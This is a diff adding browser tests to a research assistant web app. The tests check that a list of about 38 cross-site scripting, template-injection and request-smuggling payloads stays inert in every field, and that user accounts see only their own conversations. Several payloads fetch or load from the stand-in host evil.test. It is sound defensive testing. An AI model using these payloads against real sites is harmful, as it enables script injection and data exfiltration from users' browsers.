@@ -17,6 +17,9 @@ from pathlib import Path
 import pytest
 from page_rooms import OFF_TOPIC, QUESTION, build
 
+from rag import Assistant, Paper
+from rag.page.accounts import add_account
+
 pytestmark = pytest.mark.page
 ROOT = Path(__file__).parents[1]
 CHROMIUM = os.environ.get("PAPERTRAIL_TEST_CHROMIUM", "/usr/bin/chromium")
@@ -326,3 +329,158 @@ def test_settings_are_explained_kept_and_used(page) -> None:
     go_to(page, "Ask")
     ask(page, QUESTION)
     assert page.locator("#turn-1 a.marker").count() == 1
+
+
+RUN = "window.hacked=1;fetch('http://evil.test/')"
+HOSTILE = [
+    f"<script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f'<img src=x onerror="{RUN}">',
+    f"<img src=x onerror={RUN}//",
+    "<img src=http://evil.test/pixel.png>",
+    f'"><svg/onload="{RUN}">',
+    f"'><svg onload='{RUN}'>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    "<iframe src=http://evil.test/></iframe>",
+    f'<a href="javascript:{RUN}">click</a>',
+    f"[click](javascript:{RUN})",
+    "![pixel](http://evil.test/md.png)",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
+    "<link rel=stylesheet href=http://evil.test/a.css>",
+    "<style>@import 'http://evil.test/b.css';*{display:none}</style>",
+    "<base href=http://evil.test/>",
+    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
+    "<form action=http://evil.test/><button>send</button></form>",
+    "<object data=http://evil.test/></object><embed src=http://evil.test/>",
+    "${window.hacked=1}",
+    "{{constructor.constructor('window.hacked=1')()}}",
+    "{{{window.hacked=1}}} @children",
+    "{{#each value}}<img src=x onerror=window.hacked=1>{{/each}}",
+    f"&lt;img src=x onerror={RUN}&gt;",
+    f"&#60;script&#62;{RUN}&#60;/script&#62;",
+    f'" onmouseover="{RUN}" data-x="',
+    f"' autofocus onfocus='{RUN}' '",
+    f"--><script>{RUN}</script><!--",
+    f"]]><script>{RUN}</script>",
+    f"\u202e<b onclick={RUN}>gnp.exe",
+    f"$\\href{{javascript:{RUN}}}{{x}}$",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+]
+COUNT_MADE = """document.querySelectorAll(['past', 'sources', 'table', 'list', 'report']
+  .flatMap(id => ['img', 'script', 'iframe', 'svg', 'style', 'form', 'object', 'base', 'video']
+    .map(tag => `#${id} ${tag}`)).join()).length"""
+
+
+def hostile_library(folder):
+    """Papers whose every field is hostile."""
+    papers = [
+        Paper(
+            f'p{n}"><img src=x onerror={RUN}>',
+            f"FROB{n}: {text}",
+            f"FROB{n} measures {n + 100} units. {text} It ends.",
+            authors=(text, f"Ada {n}"),
+            venue=text,
+            url=f"http://evil.test/{n}" if n % 2 else "javascript:window.hacked=1",
+            sources=(text,),
+        )
+        for n, text in enumerate(HOSTILE)
+    ]
+    Assistant.build(papers, folder).close()
+    return f"{folder}/"
+
+
+def test_no_hostile_string_runs_a_script_or_sends_a_request(browser, tmp_path) -> None:
+    from model_server import ModelServer, Step
+
+    assert len(HOSTILE) >= 30
+    replies = [Step(text=" ".join(f"{h} [1]." for h in HOSTILE[n : n + 13])) for n in (0, 13, 26)]
+    library = hostile_library(tmp_path / "library")
+    with ModelServer(*replies) as server:
+        options = ("--index", library, "--model", HOSTILE[2], "--url", server.url)
+        with served(tmp_path, *options) as address, opened(browser, address) as page:
+            dialogs = []
+            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+            for turn, number in enumerate((3, 14, 27), start=1):
+                text = " ".join(HOSTILE[13 * turn - 13 : 13 * turn])
+                ask(page, f"how many units does FROB{number} measure? {text}"[:1990], turn)
+            for marker in page.locator("#past a.marker").all()[:12]:
+                marker.click()
+            page.locator("#sources section:not([hidden]) details").first.click()
+            go_to(page, "Library")
+            for row in page.locator("#table summary").all():
+                row.click()
+            page.check("#table input >> nth=0")
+            page.click("#adding summary")
+            files = [
+                {"name": text, "mimeType": "text/plain", "buffer": b"@misc{x, title = {}}"}
+                for text in HOSTILE[:20]
+            ]
+            page.set_input_files("#files", files)
+            page.click("#add-papers button")
+            page.wait_for_selector("#report :text('20 refused')", timeout=60_000)
+            assert page.evaluate(COUNT_MADE) == 0
+            go_to(page, "Ask")
+            page.click("#list li button >> nth=1")
+            page.fill("#list input", HOSTILE[2])
+            page.press("#list input", "Enter")
+            page.locator("#list .title").first.hover()
+            page.reload()
+            page.wait_for_selector("#past #turn-3 .facts", timeout=60_000)
+            page.wait_for_timeout(500)
+            assert page.evaluate("window.hacked") is None
+            assert page.evaluate(COUNT_MADE) == 0
+            assert dialogs == []
+
+
+def test_a_kept_conversation_that_somebody_changed_is_harmless(page) -> None:
+    ask(page, QUESTION)
+    page.wait_for_timeout(300)
+    page.evaluate(
+        """(text) => { for (const name of Object.keys(localStorage)) {
+          if (!name.startsWith('papertrail.conversation.')) continue;
+          const kept = JSON.parse(localStorage[name]);
+          kept.title = text; kept.turns[0].question = text;
+          kept.turns[0].answer.question = text;
+          kept.turns[0].answer.warnings = [text];
+          localStorage[name] = JSON.stringify(kept);
+        } }""",
+        HOSTILE[2],
+    )
+    page.reload()
+    page.wait_for_selector("#past #turn-1 .facts", timeout=60_000)
+    assert HOSTILE[2] in page.locator("#turn-1 .question").inner_text()
+    assert page.evaluate("window.hacked") is None
+
+
+def test_users_sign_in_keep_conversations_on_the_server_and_see_only_their_own(
+    browser, library, tmp_path
+) -> None:
+    accounts = tmp_path / "accounts"
+    for name in ("ada", "bob"):
+        add_account(accounts, name, "correct horse")
+    options = ("--index", f"{library}/", "--users", str(accounts))
+    own = "Object.keys(localStorage).filter(name => name.includes('conversation'))"
+    with served(tmp_path, *options) as address:
+        for name, before, after in (("ada", 0, 1), ("bob", 0, 0), ("ada", 1, 1)):
+            with opened(browser, address) as page:
+                page.fill("[name=name]", name)
+                page.fill("[name=password]", "correct horse")
+                page.click("button")
+                page.wait_for_selector(".state.ready", timeout=60_000)
+                page.wait_for_timeout(800)
+                assert page.locator("#list .title").count() == before
+                if before < after:
+                    ask(page, QUESTION)
+                    page.wait_for_selector("#list .title")
+                if after:
+                    page.click("#list .title")
+                    page.wait_for_selector("#past #turn-1 .facts")
+                assert page.evaluate(own) == []
+                page.click("text=Sign out")
+                page.wait_for_selector(".login")
